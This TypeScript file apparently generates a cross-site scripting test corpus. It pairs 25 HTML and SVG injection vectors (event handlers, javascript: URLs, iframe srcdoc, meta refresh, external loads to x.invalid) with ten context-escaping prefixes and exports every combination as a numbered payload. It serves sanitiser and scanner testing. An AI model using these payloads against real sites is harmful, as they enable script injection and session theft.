/** What runs a script, or asks another host, if a page takes it for markup. `ran` and the host tell that it did. */
const effects = [
  '<script>ran++</script>',
  '<script src=http://x.invalid></script>',
  '<img src=x onerror=ran++>',
  '<img src=http://x.invalid/i>',
  '<svg onload=ran++>',
  '<svg><script>ran++</script></svg>',
  '<svg><animate onbegin=ran++ attributeName=x dur=1s>',
  '<iframe src=http://x.invalid></iframe>',
  '<iframe srcdoc="<script>parent.ran++</script>"></iframe>',
  '<iframe src="javascript:parent.ran++"></iframe>',
  '<object data=http://x.invalid></object>',
  '<embed src=http://x.invalid>',
  '<link rel=stylesheet href=http://x.invalid>',
  '<style>@import "http://x.invalid";</style>',
  '<p style="background:url(http://x.invalid)">x</p>',
  '<video src=http://x.invalid onerror=ran++></video>',
  '<audio src=x onerror=ran++></audio>',
  '<details open ontoggle=ran++>x</details>',
  '<input autofocus onfocus=ran++>',
  '<a href="javascript:ran++">x</a>',
  '<math><mtext><img src=x onerror=ran++></mtext></math>',
  '<base href=http://x.invalid>',
  '<meta http-equiv=refresh content="0;url=http://x.invalid">',
  '<form action=http://x.invalid><button autofocus onfocus=ran++>x</form>',
  '<template><img src=x onerror=ran++></template><img src=x onerror=ran++>',
];

/** What ends a place in which a name may stand: an attribute, an element, a comment, a literal, a template. */
const escapes = ['', '">', "'>", '</p>', '</title>', '</textarea>', '-->', ']]>', '`}', '\\";'];

/** Payloads, each with a number by which it is found in a page: [7] stands before the seventh. */
export const markupPayloads: readonly string[] = escapes
  .flatMap((escape) => effects.map((effect) => escape + effect))
  .map((text, index) => `[${index}]${text}`);
